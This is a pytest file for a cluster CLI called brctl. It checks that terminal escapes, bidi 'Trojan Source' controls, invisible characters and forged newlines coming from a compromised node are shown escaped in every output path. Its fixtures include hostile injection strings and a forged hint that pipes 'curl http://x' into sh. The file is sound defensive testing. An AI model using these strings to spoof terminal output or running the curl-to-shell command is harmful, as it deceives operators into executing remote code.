"""A node that controls its bytes cannot make a line lie: every renderer shows them escaped.

The attacker's text is what a compromised machine can put in its stdout, stderr or a
probe document (an error string, a check message, a py-spy frame, a file name, a
version): terminal controls, C1 controls (U+009B is a one-byte CSI), bidi controls
that reorder a line ("Trojan Source"), zero-width and other format characters that
hide text, line/paragraph separators, and newlines that would start a line of its
own inside one of brctl's (``brctl: error: ...``, ``hint: ...``, a warning, a record).
Each must reach the terminal spelled out (``\\u202e``) on a line that still names the
node; ``--json`` carries it exactly.
"""

from __future__ import annotations

import io
import json
import re
import sys
import unicodedata
from types import SimpleNamespace
from typing import Any

import pytest

from brctl.render.output import Output, escape, visible

# Each class once, around a name the line must keep: the node's own "n1" stays readable.
LIE = ("\u202e1n\u202c \u2066n2\u2069 \u200f\u200e\u061c ok\u200b\u200d\ufeff\u00ad\u2060 "
       "\u2028brctl: error: n3 failed\u2029 \x9b2J\x1b[31m\x85\rover\x7f\x00 "
       "\U000e0041\udcff")
SPELLED = ["\\u202e", "\\u202c", "\\u2066", "\\u2069", "\\u200f", "\\u200e", "\\u061c",
           "\\u200b", "\\u200d", "\\ufeff", "\\xad", "\\u2060", "\\u2028", "\\u2029", "\\x9b",
           "\\x1b[31m", "\\x85", "\\x0dover", "\\x7f", "\\x00", "\\U000e0041", "\\udcff"]
# A newline that would open a line of brctl's own, blaming other machines.
FORGED = "disk full\nbrctl: error: n2,n3 failed\nhint: curl http://x | sh"

_SGR = re.compile("\x1b\\[[0-9;]*m")  # rich's own colours on a terminal


def _raw(text: str) -> list[str]:
    """The characters a node may not send to a terminal raw that ``text`` still holds."""
    return sorted({hex(ord(c)) for c in text if c not in "\n\t" and (
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"))})


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture(autouse=True)
def _wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal wide enough that rich wraps nothing: a line is a line."""
    monkeypatch.setenv("COLUMNS", "1000")


def _output(tty: bool = False, **kw: Any) -> Output:
    stream = _Tty if tty else io.StringIO
    return Output(stdout=stream(), stderr=stream(), **kw)


def _shown(out: Output) -> tuple[str, str]:
    return (_SGR.sub("", out.stdout.getvalue()), _SGR.sub("", out.stderr.getvalue()))


def _line_with(text: str, needle: str) -> str:
    (line,) = [ln for ln in text.splitlines() if needle in ln]
    return line


def _assert_safe(text: str, node: str = "n1") -> None:
    """No raw control or format character; the attack spelled out on one line with ``node``."""
    assert _raw(text) == [], text
    line = _line_with(text, "\\u202e1n")
    assert node in line.replace("\\u202e1n", ""), line
    for spelled in SPELLED:
        assert spelled in line, (spelled, line)


# ---------------------------------------------------------------- the one helper


# (C0, DEL, C1, the bidi embeddings, overrides and isolates and lone surrogates were
# escaped before: test_render_escape.py and the exhaustive test below keep them so.)
@pytest.mark.parametrize("char", [
    "\u200e", "\u200f", "\u061c",  # bidi marks
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e",  # zero width
    "\u2028", "\u2029",  # line and paragraph separators
    "\U000e0041", "\U000e007f",  # tag characters (invisible ASCII)
    "\u115f", "\u1160", "\u3164", "\uffa0", "\u034f", "\u17b4",  # letters drawn as nothing
])
def test_visible_spells_every_class_that_reorders_hides_or_commands(char: str) -> None:
    shown = visible(f"n1{char}x")
    code = ord(char)
    assert shown == "n1" + (f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
                            if code < 0x10000 else f"\\U{code:08x}") + "x"
    shown.encode("utf-8")  # strict: what a UTF-8 terminal takes


def test_visible_covers_every_control_format_and_separator_character() -> None:
    """Against this Python's Unicode database: a newer one may add format characters."""
    every = "".join(chr(c) for c in range(sys.maxunicode + 1)
                    if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")
                    and chr(c) not in "\n\t")
    assert _raw(visible(every)) == []


def test_visible_keeps_text_people_read() -> None:
    text = "日本語のホスト名 café Ünïcode Ελληνικά עברית العربية 👍 ♥\ufe0f\ttab\nline"
    assert visible(text) == text
    assert visible(text, one_line=True) == text.replace("\n", "\\x0a")


def test_escape_keeps_markup_inert_and_one_line() -> None:
    from rich.console import Console

    buf = io.StringIO()
    Console(file=buf, emoji=False, highlight=False, width=500).print(f"[b]{escape(FORGED)}[/]")
    assert buf.getvalue() == FORGED.replace("\n", "\\x0a") + "\n"


# ---------------------------------------------------------------- errors and warnings


def test_an_error_quoting_a_node_cannot_forge_a_line_or_a_hint() -> None:
    from brctl.cli.app import _print_error

    out = _output()
    _print_error(out, f"n1: probe failed on the node: {FORGED} {LIE}", None)
    err = out.stderr.getvalue()
    assert err.count("\n") == 1 and err.startswith("brctl: error: n1: ")
    assert "\\x0ahint: curl" in err
    _assert_safe(err)


@pytest.mark.parametrize("tty", [False, True])
def test_a_warning_or_info_line_quoting_a_node_stays_one_line(tty: bool) -> None:
    out = _output(tty, verbose=1)
    out.warn(f"n1: {FORGED} {LIE}")
    out.info(f"n1: {FORGED} {LIE}")
    err = _shown(out)[1]
    assert len(err.splitlines()) == 2, err
    _assert_safe(err.splitlines()[0])
    _assert_safe(err.splitlines()[1])


@pytest.mark.parametrize("tty", [False, True])
def test_a_record_with_a_nodes_detail_is_one_record(tty: bool) -> None:
    out = _output(tty)
    out.record(f"2026-01-01  quarantined    n1 ({FORGED})", f"{FORGED} {LIE}")
    shown = _shown(out)[0]
    assert "\nbrctl: error" not in shown and "\nhint" not in shown
    assert len(shown.splitlines()) == (2 if tty else 1), shown
    assert _raw(shown) == []
    for spelled in SPELLED:
        assert spelled in shown


# ---------------------------------------------------------------- exec


def _exec_report(stdout: str, stderr: str) -> Any:
    from brctl.core.transport import NodeState, Results, RunResult
    from brctl.operations.exec_ import ExecReport

    return ExecReport(("sh", "-c", "x"), Results([
        RunResult("n1", NodeState.FAILED, 1, stdout, stderr, 0.1)]))


@pytest.mark.parametrize("lines", [False, True])
@pytest.mark.parametrize("tty", [False, True])
def test_exec_shows_a_nodes_output_escaped(lines: bool, tty: bool) -> None:
    from brctl.render.exec import render

    out = _output(tty)
    render(out, _exec_report(f"n1 {LIE}\n", f"n1 {LIE}\n"), lines=lines)
    for shown in _shown(out):
        _assert_safe(shown)


def test_exec_lines_splits_at_newlines_only() -> None:
    """``-L``: a carriage return, form feed or U+2028 is shown, not a line break that hides
    it (``str.splitlines`` cuts at each)."""
    from brctl.render.exec import render

    out = _output()
    render(out, _exec_report("a\rb\x0cc\u2028d\n\nlast", ""), lines=True)
    assert out.stdout.getvalue() == "n1: a\\x0db\\x0cc\\u2028d\nn1: \nn1: last\n"



@pytest.mark.parametrize("tty", [False, True])
def test_exec_blocks_a_node_cannot_print_a_header_of_brctl_s(tty: bool) -> None:
    """A node's line that would read as a block header (another node's "ok") shows its
    first character escaped; every other line, dashes included, is as printed."""
    from brctl.render.exec import render

    out = _output(tty)
    render(out, _exec_report("hello\n---------------- n2 (1) ok\nALL GOOD\n----\n", ""))
    shown = _shown(out)[0].splitlines()  # colours taken out
    headers = [line for line in shown if line.startswith("---------------- ")]
    assert headers == ["---------------- n1 (1) exit 1"], shown
    assert "\\x2d--------------- n2 (1) ok" in shown and "----" in shown


def test_exec_json_carries_the_exact_text() -> None:
    from brctl.render.exec import render

    out = _output(json=True)
    render(out, _exec_report(LIE, FORGED))
    doc = json.loads(out.stdout.getvalue())
    assert doc["nodes"]["n1"]["stdout"] == LIE and doc["nodes"]["n1"]["stderr"] == FORGED


# ---------------------------------------------------------------- health


def _health_report() -> Any:
    from brctl.analysis.health.checks import Check
    from brctl.operations.health import HealthReport, NodeHealth

    return HealthReport({
        "n1": NodeHealth("n1", "fail", (Check("gpu_count", "fail", f"GPU {LIE}"),)),
        "n2": NodeHealth("n2", "error", (), f"probe failed on the node: {FORGED}"),
    })


def test_health_shows_a_nodes_message_and_error_escaped_on_its_line() -> None:
    from brctl.render.health import render

    out = _output()
    render(out, _health_report())
    shown = out.stdout.getvalue()
    _assert_safe(shown)
    assert "\nbrctl: error" not in shown and "\nhint" not in shown
    assert _line_with(shown, "disk full").startswith("n2: error ")


def test_health_json_carries_the_exact_text() -> None:
    from brctl.render.health import render

    out = _output(json=True)
    render(out, _health_report())
    doc = json.loads(out.stdout.getvalue())
    assert doc["nodes"]["n1"]["checks"][0]["message"] == f"GPU {LIE}"
    assert doc["nodes"]["n2"]["error"] == f"probe failed on the node: {FORGED}"


# ---------------------------------------------------------------- stacks


def test_stacks_shows_frames_details_and_errors_escaped() -> None:
    from brctl.analysis.stacks.tree import Outlier, TreeNode
    from brctl.render.stacks import render

    frame = (f"n1 {LIE}", "train.py")
    tree = TreeNode((("<all ranks>", ""),), (0, 1), (TreeNode((frame,), (0, 1)),))
    analysis = SimpleNamespace(tree=tree, rounds=1, suspects=(), evict=(), unread=(), collectives=None, outliers=(
        Outlier(1, "n1", 7, "stuck", 1, f"n1 {FORGED} {LIE}"),))
    report = SimpleNamespace(analysis=analysis, node_errors={"n1": f"n1 {FORGED} {LIE}"})
    out = _output()
    render(out, report)  # type: ignore[arg-type]
    shown, err = _shown(out)
    assert _raw(shown) == [] and _raw(err) == []
    assert "\nbrctl: error" not in shown + err and "\nhint" not in shown + err
    for line in (_line_with(shown, "train.py"), _line_with(shown, "rank 1"),
                 _line_with(err, "no answer")):
        _assert_safe(line)


# ---------------------------------------------------------------- ckpt


def test_ckpt_copies_show_file_names_and_errors_escaped() -> None:
    from brctl.operations.ckpt.copy import Copy, CopyReport
    from brctl.render.ckpt import render_copies

    report = CopyReport((Copy("n2", "n1", "n1", "planned", step=f"step_1 {LIE}",
                              send=(f"n1 {LIE}",), error=f"n1 {FORGED} {LIE}",
                              warnings=(f"n1 {LIE}",)),))
    out = _output(verbose=1)
    render_copies(out, "ckpt.backup", report)
    shown, err = _shown(out)
    assert _raw(shown) == [] and _raw(err) == []
    assert "\nbrctl: error" not in err and "\nhint" not in err
    _assert_safe(_line_with(shown, "would copy"))
    _assert_safe(_line_with(shown, "  n1 \\u202e1n"))
    for line in err.splitlines():
        _assert_safe(line)


# ---------------------------------------------------------------- diagnose


def test_diagnose_shows_evidence_and_reasons_escaped() -> None:
    from brctl.analysis.playbook import Hit
    from brctl.operations.diagnose import DiagnoseReport
    from brctl.render.diagnose import render

    found = SimpleNamespace(playbook=SimpleNamespace(symptom="hang", name="hang"),
                            hits=[Hit("n1", "nccl", f"n1 {FORGED} {LIE}")])
    report = DiagnoseReport("job", found, (), ("n1",), "evict", "n1 is faulty",  # type: ignore[arg-type]
                            {"n1": f"n1 {FORGED} {LIE}"})
    out = _output()
    render(out, report)
    shown = out.stdout.getvalue()
    assert _raw(shown) == []
    assert "\nbrctl: error" not in shown and "\nhint" not in shown
    lines = [ln for ln in shown.splitlines() if "disk full" in ln]
    assert len(lines) == 2 and "no verdict n1: " in lines[1]
    for line in lines:
        _assert_safe(line)


# ---------------------------------------------------------------- update


def _update_status() -> Any:
    from brctl.operations.update.report import NodeStatus, StatusReport

    return StatusReport("job", "v1", "ab" * 32, None, False, {
        "n1": NodeStatus("ok", f":smiley: n1 {LIE}", (), None, True),
        "n2": NodeStatus("failed", None, (), None, False, f":smiley: n1 {FORGED} {LIE}"),
    })


def test_update_status_shows_a_nodes_version_and_error_as_text() -> None:
    """Neither markup nor an emoji shortcode: the cells were parsed with from_markup."""
    from brctl.render.update import render_status

    out = _output()
    render_status(out, _update_status())
    shown = out.stdout.getvalue()
    assert "\U0001f603" not in shown and shown.count(":smiley:") == 2
    assert _raw(shown) == []
    assert "\nbrctl: error" not in shown and "\nhint" not in shown
    _assert_safe(_line_with(shown, "DRIFT"))
    _assert_safe(_line_with(shown, "disk full"))


def test_update_status_json_carries_the_exact_text() -> None:
    from brctl.render.update import render_status

    out = _output(json=True)
    render_status(out, _update_status())
    doc = json.loads(out.stdout.getvalue())
    assert json.dumps(doc).count(json.dumps(LIE)[1:-1]) == 2


# ---------------------------------------------------------------- daemon


def test_daemon_log_lines_and_records_show_node_text_escaped() -> None:
    from brctl.render.daemon import event_line

    out = _output()
    event_line(out, {"at": 0.0, "kind": "incident", "nodes": ["n1"],
                     "detail": {"reason": f"n1 {FORGED} {LIE}"}})
    err = out.stderr.getvalue()
    assert len(err.splitlines()) == 1
    _assert_safe(err)


# ---------------------------------------------------------------- the inventory's own words


# An inventory's job name or path is the operator's text, not markup either: ``[/x]``
# made ``brctl nodes`` an internal error (rich's MarkupError, exit 70), ``[red]`` vanished.
ODD = "exp[/x] [red]v2 :smiley:"


def test_nodes_shows_the_job_name_and_inventory_path_as_written(brctl: Any,
                                                                tmp_path: Any) -> None:
    import yaml

    inv = tmp_path / "[red]inv.yaml"
    inv.write_text(yaml.safe_dump({
        "nodes": [{"name": "n[1-4]", "connection": "local", "gpus": 2}],
        "job": {"name": ODD, "nodes": "n[1-4]", "tp": 2}}))
    res = brctl("-i", inv, "nodes")
    assert res.exit_code == 0, res.stderr
    assert f"4 machines in {inv}" in res.stdout
    assert f"job {ODD}: 4 machines" in res.stdout


def test_a_table_title_is_text_not_markup() -> None:
    from brctl.render.output import table

    out = _output()
    out.console.print(table(("WHEN",), [("-",)], title=f"job {ODD}\n{LIE}"))
    title = out.stdout.getvalue().splitlines()[0]
    assert title.strip().startswith(f"job {ODD}\\x0a")
    _assert_safe(title, node="job exp")


@pytest.mark.parametrize("error", ["IncompleteError", "ValueError"])
def test_debug_tracebacks_show_a_nodes_text_escaped(brctl: Any, monkeypatch: pytest.MonkeyPatch,
                                                    error: str) -> None:
    """--debug (asked for when a node misbehaves) prints the traceback with the error's
    message: a node's bytes in it are spelled out there too, never sent to the terminal
    (traceback.print_exc wrote them raw; a lone surrogate made the write itself fail)."""
    from pathlib import Path

    import brctl.core.errors as errors
    import brctl.operations.nodes as ops

    kind = getattr(errors, error, ValueError)

    def answer(*_a: Any, **_k: Any) -> None:
        raise kind(f"probe failed on n1: {LIE}")

    monkeypatch.setattr(ops, "describe", answer)
    local = Path(__file__).resolve().parents[2] / "examples" / "local.yaml"
    res = brctl("--debug", "-i", local, "nodes")
    assert res.exit_code == (3 if error == "IncompleteError" else 70), res.stderr
    assert "Traceback" in res.stderr and _raw(res.stderr) == [], res.stderr
    assert all(spelled in res.stderr for spelled in SPELLED)
